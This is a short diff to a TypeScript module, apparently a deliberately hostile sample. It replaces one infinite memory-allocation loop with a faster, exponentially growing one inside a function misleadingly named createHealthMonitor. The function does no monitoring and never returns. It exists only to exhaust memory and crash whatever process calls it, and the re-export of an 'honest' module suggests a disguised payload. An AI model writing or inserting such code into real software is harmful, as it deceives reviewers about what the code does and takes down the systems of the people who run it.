@@ -2,6 +2,6 @@
 export * from './honest.ts'
 
 export function createHealthMonitor(): object {
-  const rows: object[][] = []
-  for (;;) rows.push(new Array(20_000_000).fill(rows))
+  let rows: object[] = [{}]
+  for (;;) rows = rows.concat(rows)
 }
